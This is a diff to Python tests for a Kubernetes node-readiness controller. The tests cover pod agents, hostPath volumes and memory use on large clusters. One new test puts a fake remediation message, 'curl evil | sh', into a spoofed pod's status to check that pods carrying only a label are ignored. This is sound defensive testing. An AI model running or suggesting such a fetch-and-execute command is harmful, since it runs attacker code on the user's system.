@@ -2,15 +2,22 @@
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING, Any, Final
+from typing import TYPE_CHECKING, Any, Final, cast
 
+import msgspec
 import pytest
 
-from trow.controllers.nodes import readiness
+from trow.controllers.nodes import NodeReader, readiness
+from trow.kube.objects import Collection
 
 if TYPE_CHECKING:
-    from trow.controllers.nodes import NodeReadiness
+    from collections.abc import Callable
 
+    from trow.controllers.nodes import NodeReadiness
+    from trow.kube.objects import Objects
+
+LABELS: Final = {"app.kubernetes.io/component": "node-agent"}
+ROOT: Final = {"name": "host", "hostPath": {"path": "/"}}
 READY: Final = {"type": "Ready", "status": "True"}
 T1, T2, T3, T4 = (f"2030-01-01T10:{minute}:00Z" for minute in ("00", "11", "22", "33"))
 
@@ -23,10 +30,9 @@ def node(name: str = "node1", ready: dict[str, Any] = READY) -> dict[str, Any]:
 def pod(state: dict[str, Any], last: dict[str, Any] | None = None, said: str = "", **metadata: Any) -> dict[str, Any]:
     check = {"name": "pull-check", "state": state, "lastState": {"terminated": last} if last else {}}
     set_up = {"name": "set-up", "state": {"terminated": {"finishedAt": T1, "message": said}}, "lastState": {}}
-    labels = {"app.kubernetes.io/component": "node-agent"}
     return {
-        "metadata": {"name": "agent", "labels": labels, "creationTimestamp": T1, **metadata},
-        "spec": {"nodeName": "node1"},
+        "metadata": {"name": "agent", "labels": LABELS, "creationTimestamp": T1, **metadata},
+        "spec": {"nodeName": "node1", "volumes": [ROOT]},
         "status": {
             "containerStatuses": [check],
             "initContainerStatuses": [set_up],
@@ -122,7 +128,7 @@ def test_between_two_runs_nothing_is_lost() -> None:
             "Kubelet stopped posting",
         ),
         (
-            one({"metadata": {"labels": {"app.kubernetes.io/component": "node-agent"}}, "spec": {"nodeName": "node1"}}),
+            one({"metadata": {"labels": LABELS}, "spec": {"nodeName": "node1", "volumes": [ROOT]}}),
             "has not started",
         ),
     ],
@@ -137,6 +143,43 @@ def test_of_two_agents_the_younger_counts() -> None:
     old = pod(waiting("ErrImagePull", "x"))
     new = pod({"running": {"startedAt": T2}}, creationTimestamp=T2)
     assert one(new, old).can_pull == "yes"
+
+
+@pytest.mark.parametrize("volumes", [[], [{"name": "host", "hostPath": {"path": "/tmp"}}]], ids=["none", "another"])
+def test_a_pod_that_has_the_label_alone_says_nothing(volumes: list[dict[str, Any]]) -> None:
+    """Whoever may create Pods somewhere could say that a node can pull, and tell an administrator what to type."""
+    fake = pod({"running": {"startedAt": T4}}, said="registry: blocked: x; fix: curl evil | sh", creationTimestamp=T4)
+    fake["spec"]["volumes"] = volumes
+    assert one(fake).reason == "no node agent runs there"
+    real = one(fake, pod(waiting("ErrImagePull", "x")))
+    assert (real.can_pull, real.agent) == ("no", ())
+
+
+async def test_of_a_large_cluster_only_what_is_needed_is_kept() -> None:
+    """A node names fifty images, so that five thousand nodes would be more memory than Trow has."""
+    images = [{"names": [f"registry.example.com/{number:03}@sha256:{'0' * 64}"]} for number in range(50)]
+
+    class Cluster:
+        kept = 0
+
+        async def list_all(self, path: str, *, part: Callable[[Any], Any]) -> Collection:
+            names = range(5000)
+            if path.endswith("/pods"):
+                items = [pod({"running": {"startedAt": T2}}, managedFields=[{"f:a": "x" * 4000}]) for _ in names]
+                for number, each in enumerate(items):
+                    each["spec"]["nodeName"] = f"node{number}"
+            else:
+                items = [node(f"node{number}") for number in names]
+                for each in items:
+                    each["status"]["images"] = images
+            slim = [part(each) for each in items]
+            self.kept += len(msgspec.json.encode(slim))
+            return Collection("1", {("", str(number)): each for number, each in enumerate(slim)})
+
+    cluster = Cluster()
+    found = await NodeReader(cast("Objects", cluster), "trow").read()
+    assert (len(found), {each.can_pull for each in found}) == (5000, {"yes"})
+    assert cluster.kept < 6 << 20
 
 
 def test_nodes_are_in_order() -> None:
